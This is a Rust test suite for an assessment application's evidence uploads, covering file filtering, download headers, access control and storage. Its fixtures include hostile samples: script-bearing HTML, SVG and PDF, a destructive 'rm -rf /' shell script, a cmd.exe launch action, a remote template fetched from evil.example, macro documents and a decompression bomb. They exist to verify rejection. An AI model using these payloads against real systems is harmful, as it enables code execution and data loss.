//! Evidence through the pages: what is taken and what is not, who sees it, what becomes of its file.

use std::path::PathBuf;

use bhr_baseline::response::{Evidence, EvidenceContent, PartRole};
use chrono::TimeDelta;
use lopdf::{Object, Stream, dictionary};

use super::team::{at, colleague, give, sevda, step};
use crate::support::app::{App, now};
use crate::support::client::{Browser, Reply, SESSION};
use crate::support::database::on_both_engines;
use crate::support::files::{add_picture, docx, fields, jpeg, package, parts_of, pdf, png};

pub fn address(app: &App, key: &str) -> String {
    format!("/responses/{}/evidence/{key}", app.response)
}

pub async fn pieces(app: &App) -> Vec<Evidence> {
    app.assessment.store.evidence_of_institution(app.ministry.id).await.unwrap()
}

/// Every file in the vault.
pub fn kept(app: &App) -> Vec<PathBuf> {
    let folders = std::fs::read_dir(app.evidence.path()).unwrap();
    let files = folders.flat_map(|folder| std::fs::read_dir(folder.unwrap().path()).unwrap());
    files.map(|file| file.unwrap().path()).collect()
}

pub async fn send(browser: &mut Browser<'_>, app: &App, name: &str, bytes: &[u8]) -> Reply {
    browser.upload(&address(app, "law-in-force."), &fields("Order No 12", "nhri"), (name, bytes)).await
}

pub async fn hand_in(app: &App) {
    let mut aysel = app.browser(&app.people.aysel).await;
    let reply = aysel.hand_in(&format!("/responses/{}", app.response)).await;
    assert_eq!(reply.status, 303, "{}", reply.body);
}

/// A file, the name it comes under, and the beginning of the reason why it is not taken.
type Refused = (&'static str, Vec<u8>, &'static str);

const SCRIPT: &[u8] = b"<html><script>alert(1)</script></html>";
const DRAWING: &[u8] = b"<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>";
/// How the files of old office programs begin.
const OLD_OFFICE: &[u8] = &[0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1];
/// A template that is fetched when the document is opened.
const TEMPLATE: &[u8] = b"<Relationships><Relationship Id=\"r1\" Type=\"http://a.example/attachedTemplate\" \
                          Target=\"https://evil.example/x.dotm\" TargetMode=\"External\"/></Relationships>";

/// The same as a reader of XML takes it: a letter as its number, a prefix, space around the sign.
fn written(sign: &str) -> Vec<u8> {
    let mode = if sign == "=" { "&#69;xternal" } else { "External" };
    let kind = "http://a.example/relationships/attachedTemplate";
    format!("<p:Relationship Type{sign}\"{kind}\" Target{sign}\"x\" TargetMode{sign}\"{mode}\"/>")
        .into_bytes()
}

fn together(first: &[u8], second: &[u8]) -> Vec<u8> {
    [first, second].concat()
}

fn pictures_and_texts() -> Vec<Refused> {
    let archive = package(&[("a.txt", b"a")]);
    vec![
        ("photo.png", SCRIPT.to_vec(), "This is a web page"),
        ("photo.png", DRAWING.to_vec(), "This is a web page"),
        ("list.csv", b"a,b\n<script>alert(1)</script>,2\n".to_vec(), "This is a web page"),
        ("photo.png", together(&png(), &archive), "Something else hides"),
        ("photo.jpg", together(&jpeg(), SCRIPT), "Something else hides"),
        ("photo.png", png()[..2000].to_vec(), "The file cannot be read to its end"),
        ("order.txt", b"#!/bin/sh\nrm -rf /\n".to_vec(), "This is a program"),
        ("order.pdf", b"MZ\x90\x00\x03\x00\x00\x00".to_vec(), "This is a program"),
        ("order.txt", vec![0xcf, 0xf0, 0xe8, 0xea, 0xe0, 0xe7], "The text is not in UTF-8"),
        ("film.mp4", b"\x00\x00\x00\x18ftypmp42\x00\x00\x00\x00mp42isom".to_vec(), "Files of this kind"),
        ("empty.pdf", Vec::new(), "The file is empty"),
    ]
}

fn papers() -> Vec<Refused> {
    let script = pdf(|_, catalogue| {
        let act = dictionary! { "S" => "JavaScript", "JS" => Object::string_literal("app.alert(1)") };
        catalogue.set("OpenAction", act);
    });
    let launch =
        pdf(|_, catalogue| catalogue.set("OpenAction", dictionary! { "S" => "Launch", "F" => "cmd.exe" }));
    let carrying = pdf(|document, catalogue| {
        let file = document.add_object(Stream::new(dictionary! { "Type" => "EmbeddedFile" }, b"MZ".to_vec()));
        catalogue.set("Attached", file);
    });
    let polyglot = together(&pdf(|_, _| {}), &package(&[("a.txt", b"a")]));
    vec![
        ("report.pdf", script, "The PDF has a script"),
        ("report.pdf", launch, "The PDF has a script"),
        ("report.pdf", carrying, "The PDF has a script"),
        ("report.pdf", polyglot, "Something else hides"),
        ("report.pdf", b"%PDF-1.7 nothing".to_vec(), "The file cannot be read to its end"),
    ]
}

/// A Word document with another part.
fn with(name: &str, content: &[u8]) -> Vec<u8> {
    docx(&[(name, content)])
}

fn office_files() -> Vec<Refused> {
    let macros = parts_of("x")
        .replace("vnd.openxmlformats-officedocument.x", "vnd.ms-word.document.macroEnabled.main+xml");
    let macros = package(&[("[Content_Types].xml", macros.as_bytes())]);
    let nested = with("word/embeddings/a.docx", &with("word/embeddings/b.docx", &docx(&[])));
    let bomb = with("word/media/zeros.xml", &vec![b' '; 300 * 1024 * 1024]);
    vec![
        ("order.docx", macros, "The document has macros"),
        ("order.docx", with("word/vbaProject.bin", b"x"), "The document has macros"),
        ("order.docx", with("word/_rels/settings.xml.rels", TEMPLATE), "The document has another file"),
        ("order.docx", with("word/_rels/a.rels", &written(" = ")), "The document has another file"),
        ("order.docx", with("word/_rels/a.rels", &written("=")), "The document has another file"),
        ("order.docx", with("word/embeddings/a.bin", OLD_OFFICE), "The document has another file"),
        ("order.docx", bomb, "The file becomes far too large"),
        ("order.docx", nested, "The file becomes far too large"),
        ("order.docx", package(&[("order.txt", b"a")]), "This is an archive"),
        ("order.doc", OLD_OFFICE.to_vec(), "This is a file of an old office program"),
    ]
}

on_both_engines! {
    async fn what_would_run_or_hide_is_refused_with_a_reason(database: Database) {
        let app = App::new(database).await;
        let mut aysel = app.browser(&app.people.aysel).await;
        for (name, bytes, reason) in [pictures_and_texts(), papers(), office_files()].concat() {
            let reply = send(&mut aysel, &app, name, &bytes).await;
            assert_eq!(reply.status, 422, "{name}: {reason}");
            assert!(reply.says(reason), "{name}, {reason}: {}", reply.body);
            assert_eq!(reply.field("title").as_deref(), Some("Order No 12"), "nothing typed is lost");
        }
        assert_eq!(pieces(&app).await, []);
        assert_eq!(kept(&app), Vec::<PathBuf>::new());
    }

    async fn what_was_typed_beside_a_file_outlives_the_session(database: Database) {
        let app = App::new(database).await;
        app.begin_session(&app.people.aysel, "ended", now() - TimeDelta::seconds(1)).await;
        let mut aysel = app.stranger();
        aysel.cookies.insert(SESSION.to_owned(), "ended".to_owned());
        let reply = send(&mut aysel, &app, "photo.png", &png()).await;
        assert_eq!(reply.status, 403);
        assert!(reply.says("Order No 12"), "{}", reply.body);
        assert_eq!(pieces(&app).await, []);
    }

    async fn every_kind_that_is_taken_comes_back_byte_for_byte(database: Database) {
        let app = App::new(database).await;
        let mut aysel = app.browser(&app.people.aysel).await;
        let table = "il,yoxlama\n2025,412\n".as_bytes().to_vec();
        let text = package(&[("mimetype", b"application/vnd.oasis.opendocument.text"), ("content.xml", b"<x/>")]);
        let chart = docx(&[("word/embeddings/chart.xlsx", &package(&[(
            "[Content_Types].xml", parts_of("spreadsheetml.sheet.main+xml").as_bytes(),
        )]))]);
        for (name, bytes, media_type) in [
            ("a.png", png(), "image/png"),
            ("a.jpg", jpeg(), "image/jpeg"),
            ("a.pdf", pdf(|_, _| {}), "application/pdf"),
            ("a.docx", chart, "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
            ("a.odt", text, "application/vnd.oasis.opendocument.text"),
            ("a.csv", table, "text/plain; charset=utf-8"),
        ] {
            let reply = send(&mut aysel, &app, name, &bytes).await;
            assert_eq!(reply.status, 303, "{name}: {}", reply.body);
            let id = pieces(&app).await.last().unwrap().id;
            let reply = aysel.get(&format!("/evidence/{id}/file")).await;
            assert_eq!((reply.status, &reply.bytes), (200, &bytes), "{name}");
            assert_eq!(reply.header("content-type"), media_type);
            assert_eq!(reply.header("x-content-type-options"), "nosniff");
            assert_eq!(reply.header("content-security-policy"), "default-src 'none'; sandbox");
            let disposition = format!("attachment; filename=\"{name}\"; filename*=UTF-8''{name}");
            assert_eq!(reply.header("content-disposition"), disposition);
        }
    }

    async fn a_name_in_any_script_comes_back_whole(database: Database) {
        let app = App::new(database).await;
        let mut aysel = app.browser(&app.people.aysel).await;
        for (name, encoded) in [
            ("Əmr № 12.png", "%C6%8Fmr%20%E2%84%96%2012.png"),
            ("приказ.png", "%D0%BF%D1%80%D0%B8%D0%BA%D0%B0%D0%B7.png"),
            ("📷.png", "%F0%9F%93%B7.png"),
            ("صورة.png", "%D8%B5%D9%88%D8%B1%D8%A9.png"),
            ("page.html", "page.html.png"),
        ] {
            let title = format!("<b>{name}</b>");
            let reply = aysel.upload(&address(&app, "law-in-force."), &fields(&title, "nhri"), (name, &png())).await;
            assert_eq!(reply.status, 303, "{name}: {}", reply.body);
            let piece = pieces(&app).await.pop().unwrap();
            let reply = aysel.get(&format!("/evidence/{}/file", piece.id)).await;
            let disposition = reply.header("content-disposition");
            assert!(disposition.ends_with(&format!("; filename*=UTF-8''{encoded}")), "{disposition}");
            let page = aysel.get(&format!("/evidence/{}", piece.id)).await;
            assert!(page.says("&lt;b&gt;") && !page.says("<b>"), "{}", page.body);
        }
    }

    async fn a_small_picture_is_drawn_anew(database: Database) {
        let app = App::new(database).await;
        let id = add_picture(&app).await;
        let mut aysel = app.browser(&app.people.aysel).await;
        let reply = aysel.get(&format!("/evidence/{id}/preview.png")).await;
        assert_eq!((reply.status, reply.header("content-type")), (200, "image/png"));
        let drawn = image::load_from_memory(&reply.bytes).unwrap();
        assert_eq!((drawn.width(), drawn.height()), (720, 240));
    }

    async fn a_file_that_is_too_large_changes_nothing(database: Database) {
        let app = App::new(database).await;
        let mut aysel = app.browser(&app.people.aysel).await;
        let line = |bytes: usize| vec![b'a'; bytes];
        let reply = send(&mut aysel, &app, "a.txt", &line(20 * 1024 * 1024 + 1)).await;
        assert!(reply.status == 422 && reply.says("larger than 20 MB"), "{}", reply.status);
        let reply = send(&mut aysel, &app, "a.txt", &line(22 * 1024 * 1024)).await;
        assert!(reply.status == 413 && reply.says("larger than 20 MB"), "{} {}", reply.status, reply.body);
        aysel.headers.push(("Content-Length", "1073741824".to_owned()));
        let reply = send(&mut aysel, &app, "a.txt", b"the beginning of a gigabyte").await;
        assert!(reply.status == 413 && reply.says("larger than 20 MB"), "{} {}", reply.status, reply.body);
        let book = format!("/responses/{}/workbook", app.response);
        let elsewhere = aysel.upload(&book, &[], ("a.xlsx", b"the beginning of a gigabyte")).await;
        assert!(reply.says("give the link") && !elsewhere.says("give the link"), "a workbook is not put on the web");
        assert!(elsewhere.status == 413 && elsewhere.says("larger than 20 MB"), "{}", elsewhere.body);
        assert_eq!(pieces(&app).await, []);
        assert_eq!(kept(&app), Vec::<PathBuf>::new());
    }

    async fn files_have_no_more_room_than_the_institution(database: Database) {
        let app = App::new(database).await;
        let mut aysel = app.browser(&app.people.aysel).await;
        let of = |letter: u8| vec![letter; 16 * 1024 * 1024];
        assert_eq!(send(&mut aysel, &app, "a.txt", &of(b'a')).await.status, 303);
        let reply = send(&mut aysel, &app, "b.txt", &of(b'b')).await;
        assert!(reply.status == 422 && reply.says("no room left"), "{}", reply.body);
        assert_eq!(kept(&app).len(), 1);
        assert_eq!(send(&mut aysel, &app, "again.txt", &of(b'a')).await.status, 303, "the same file takes no more");
    }

    async fn the_same_file_is_kept_once_and_goes_with_its_last_piece(database: Database) {
        let app = App::new(database).await;
        let (first, second) = (add_picture(&app).await, add_picture(&app).await);
        assert_eq!(kept(&app).len(), 1);
        let mut aysel = app.browser(&app.people.aysel).await;
        let remove = async |browser: &mut Browser<'_>, id: &str| {
            browser.post(&address(&app, "law-in-force./unlink"), &[("evidence", id)]).await;
            browser.post(&format!("/evidence/{id}/remove"), &[]).await.outcome().0
        };
        assert_eq!(remove(&mut aysel, &first).await, 303);
        assert_eq!(aysel.get(&format!("/evidence/{second}/file")).await.status, 200);
        assert_eq!(remove(&mut aysel, &second).await, 303);
        assert_eq!(kept(&app), Vec::<PathBuf>::new());
        assert_eq!(aysel.get(&format!("/evidence/{second}/file")).await.status, 404);
        let deeds = app.assessment.store.list_audit(None, 1).await.unwrap();
        assert_eq!((deeds[0].action.as_str(), &deeds[0].detail["title"]), ("evidence.remove", &"Order No 12".into()));
    }

    async fn one_piece_supports_two_answers(database: Database) {
        let app = App::new(database).await;
        let id = add_picture(&app).await;
        let mut aysel = app.browser(&app.people.aysel).await;
        let other = address(&app, "inspected.");
        assert!(aysel.get(&other).await.says(&format!("value=\"{id}\"")));
        let reply = aysel.post(&format!("{other}/link"), &[("evidence", &id)]).await;
        assert_eq!(reply.outcome(), (303, other.as_str()));
        let linked = app.assessment.store.linked_evidence(app.response).await.unwrap();
        let questions: Vec<&str> = linked.iter().map(|(place, _)| place.question.as_str()).collect();
        assert_eq!(questions, ["inspected", "law-in-force"]);
        assert!(aysel.get(&format!("/evidence/{id}")).await.says("from the 2 answers it supports"));
        assert!(aysel.get("/evidence?q=order+14").await.says("Order No 12"));
        assert!(aysel.get("/evidence?q=nothing").await.says("Nothing found"));
        let section = aysel.get(&format!("/responses/{}/sections/law", app.response)).await;
        assert!(section.says("Order No 12") && section.says(&address(&app, "law-in-force.")));
        assert!(aysel.get(&format!("/responses/{}/check", app.response)).await.says("Order No 12"));
    }

    async fn a_reviewer_sees_what_was_handed_in_and_not_what_stays_inside(database: Database) {
        let app = App::new(database).await;
        let id = add_picture(&app).await;
        let mut aysel = app.browser(&app.people.aysel).await;
        let inside = fields("Minutes nobody else sees", "institution");
        let reply = aysel.upload(&address(&app, "law-in-force."), &inside, ("m.txt", b"secret")).await;
        assert_eq!(reply.status, 303);
        let secret = pieces(&app).await.pop().unwrap().id;
        let mut rauf = app.browser(&app.people.rauf).await;
        let missing = rauf.get("/no/such/page").await;
        assert_eq!(rauf.get(&format!("/evidence/{id}/file")).await, missing, "not handed in yet");
        hand_in(&app).await;
        assert_eq!(rauf.get(&format!("/evidence/{id}/file")).await.bytes, png());
        let review = rauf.get(&format!("/responses/{}/review", app.response)).await;
        assert!(review.says("Order No 12") && !review.says("Minutes"), "{}", review.body);
        for page in [format!("/evidence/{secret}"), format!("/evidence/{secret}/file")] {
            assert_eq!(rauf.get(&page).await, missing);
            assert_eq!(aysel.get(&page).await.status, 200);
        }
        let frozen = app.assessment.store.snapshot(app.response).await.unwrap().unwrap().content;
        assert!(frozen.contains("Order No 12") && !frozen.contains("Minutes"), "{frozen}");
        let folder = tempfile::tempdir().unwrap();
        app.assessment.export(app.round.id, folder.path()).await.unwrap();
        let rows = std::fs::read_to_string(folder.path().join("evidence.csv")).unwrap();
        assert!(rows.contains("law-in-force,order,Order No 12,2025-03-14,,nhri,file,order.png,"), "{rows}");
        assert_eq!(rows.lines().count(), 2, "{rows}");
    }

    async fn what_was_handed_in_stays(database: Database) {
        let app = App::new(database).await;
        let id = add_picture(&app).await;
        hand_in(&app).await;
        let mut aysel = app.browser(&app.people.aysel).await;
        let here = address(&app, "law-in-force.");
        assert_eq!(aysel.get(&here).await.status, 404, "nothing changes once it is handed in");
        assert_eq!(aysel.post(&format!("{here}/unlink"), &[("evidence", &id)]).await.status, 404);
        let mut rauf = app.browser(&app.people.rauf).await;
        let review = format!("/responses/{}/review", app.response);
        let state = rauf.get(&review).await.field("state").unwrap();
        let back = [("state", state.as_str()), ("message", "Which order?")];
        assert_eq!(rauf.post(&format!("/responses/{}/return", app.response), &back).await.status, 303);
        assert_eq!(aysel.post(&format!("{here}/unlink"), &[("evidence", &id)]).await.status, 303);
        let reply = aysel.post(&format!("/evidence/{id}/remove"), &[]).await;
        assert!(reply.status == 409 && reply.says("It was submitted"), "{}", reply.body);
        assert!(rauf.get(&review).await.says("Order No 12"));
        assert_eq!(rauf.get(&format!("/evidence/{id}/file")).await.bytes, png());
    }

    async fn a_damaged_file_is_not_handed_out(database: Database) {
        let app = App::new(database).await;
        let id = add_picture(&app).await;
        std::fs::write(&kept(&app)[0], "<script>changed on the disk</script>").unwrap();
        let mut aysel = app.browser(&app.people.aysel).await;
        for page in [format!("/evidence/{id}/file"), format!("/evidence/{id}/preview.png")] {
            let reply = aysel.get(&page).await;
            assert_eq!(reply.status, 500);
            assert!(!reply.says("changed on the disk"));
        }
        assert_eq!(aysel.get(&format!("/evidence/{id}")).await.status, 200, "its page can still be read");
    }

    async fn a_link_leads_to_the_web_and_nowhere_else(database: Database) {
        let app = App::new(database).await;
        let mut aysel = app.browser(&app.people.aysel).await;
        let here = address(&app, "law-in-force.");
        let with = |name: &'static str, value: &'static str| {
            fields("Labour Code", "public").into_iter().map(move |(known, old)| (known, if known == name { value } else { old })).collect::<Vec<_>>()
        };
        let none: (&str, &[u8]) = ("", b"");
        let reply = aysel.upload(&here, &with("link", "javascript:alert(1)"), none).await;
        assert!(reply.status == 422 && reply.says("begins with https://"), "{}", reply.body);
        let reply = aysel.upload(&here, &with("link", "https://e-qanun.az/"), ("a.png", &png())).await;
        assert!(reply.status == 422 && reply.says("one of the three only"), "{}", reply.body);
        let reply = aysel.upload(&here, &[("valid_until", "soon")], none).await;
        let reasons = reply.body.split("<li><a href=\"#").skip(1).map(|rest| rest.split('"').next().unwrap());
        let order = ["kind", "title", "file", "valid_until", "confidentiality"];
        assert_eq!((reply.status, reasons.collect::<Vec<_>>()), (422, order.to_vec()), "from top to bottom");
        assert_eq!(pieces(&app).await, []);
        assert_eq!(aysel.upload(&here, &with("link", "https://e-qanun.az/x?a=1"), none).await.status, 303);
        let piece = pieces(&app).await.pop().unwrap();
        assert!(matches!(&piece.content, EvidenceContent::Link(to) if to.as_str() == "https://e-qanun.az/x?a=1"));
        let page = aysel.get(&format!("/evidence/{}", piece.id)).await;
        assert!(page.says("href=\"https://e-qanun.az/x?a=1\" rel=\"noopener noreferrer"), "{}", page.body);
        assert_eq!(aysel.get(&format!("/evidence/{}/file", piece.id)).await.status, 404);
    }

    async fn evidence_past_its_last_day_is_marked(database: Database) {
        let app = App::new(database).await;
        let mut aysel = app.browser(&app.people.aysel).await;
        let here = address(&app, "law-in-force.");
        let until = |day: &'static str| {
            let mut form = fields("Labour Code", "public");
            form.retain(|(name, _)| *name != "valid_until" && *name != "reference");
            form.extend([("valid_until", day), ("reference", "article 312")]);
            form
        };
        let before = aysel.upload(&here, &until("2025-03-13"), ("", b"")).await;
        assert!(before.status == 422 && before.says("before the date of the evidence"), "{}", before.body);
        assert_eq!(aysel.upload(&here, &until("2099-01-01"), ("", b"")).await.status, 303);
        assert!(!aysel.get("/evidence").await.says("No longer valid"));
        assert_eq!(aysel.upload(&here, &until("2025-06-01"), ("", b"")).await.status, 303);
        for page in ["/evidence".to_owned(), here, format!("/responses/{}/check", app.response)] {
            assert!(aysel.get(&page).await.says("No longer valid"), "{page}");
        }
    }

    async fn a_piece_of_another_institution_supports_nothing_here(database: Database) {
        let app = App::new(database).await;
        let id = add_picture(&app).await;
        let mut elvin = app.browser(&app.people.elvin).await;
        let missing = elvin.get("/no/such/page").await;
        let own = format!("/responses/{}/evidence/law-in-force./link", app.other_response);
        let reply = elvin.post(&own, &[("evidence", &id)]).await;
        assert_eq!((reply.status, &reply.body), (404, &missing.body));
        assert_eq!(elvin.get(&format!("/evidence/{id}/file")).await, missing);
        assert!(!elvin.get("/evidence").await.says("Order No 12"));
        assert_eq!(app.assessment.store.linked_evidence(app.other_response).await.unwrap(), []);
    }

    async fn evidence_of_a_draft_is_seen_by_nobody_else(database: Database) {
        let app = App::new(database).await;
        let (writer, reader) = (sevda(&app).await, colleague(&app, "orxan@ministry.example", "Orxan").await);
        give(&app, &writer, ("practice", None), PartRole::Answer).await;
        give(&app, &reader, ("practice", None), PartRole::Comment).await;
        give(&app, &reader, ("law", Some("law-in-force")), PartRole::Answer).await;
        let mut sevda = app.browser(&writer).await;
        let form = fields("Plan of visits, May", "nhri");
        let reply = sevda.upload(&address(&app, "plan."), &form, ("order.png", &png())).await;
        assert_eq!(reply.status, 303, "{}", reply.body);
        let id = pieces(&app).await.pop().unwrap().id.to_string();
        let own = [format!("/evidence/{id}"), format!("/evidence/{id}/file"), format!("/evidence/{id}/preview.png")];
        for other in [&app.people.aysel, &app.people.kamran, &reader] {
            let mut browser = app.browser(other).await;
            for page in &own {
                assert_eq!(browser.get(page).await.status, 404, "{} {page}", other.name);
            }
            assert_eq!(browser.post(&format!("{}/remove", own[0]), &[]).await.status, 404);
            assert_eq!(browser.get(&address(&app, "plan.")).await.status, 404);
            let here = address(&app, "law-in-force.");
            assert_eq!(browser.post(&format!("{here}/link"), &[("evidence", &id)]).await.status, 404);
            for page in ["/evidence".to_owned(), here, at(&app, "/sections/practice"), at(&app, "/check")] {
                let reply = browser.get(&page).await;
                assert!(reply.status == 200 && !reply.says("Plan of visits, May"), "{} {page}", other.name);
            }
        }
        assert!(sevda.get("/evidence").await.says("Plan of visits, May"));
        assert_eq!(step(&mut sevda, &app, "practice", "draft", "released").await.status, 303);
        for other in [&app.people.aysel, &reader] {
            let mut browser = app.browser(other).await;
            assert_eq!(browser.get(&own[1]).await.status, 200, "{}", other.name);
            assert!(browser.get("/evidence").await.says("Plan of visits, May"));
            assert!(browser.get(&at(&app, "/sections/practice")).await.says("Plan of visits, May"), "{}", other.name);
        }
        let outsider = colleague(&app, "lale@ministry.example", "Lalə").await;
        let mut lale = app.browser(&outsider).await;
        assert_eq!(lale.get(&own[1]).await.status, 404, "who has no part in it sees nothing");
    }
}
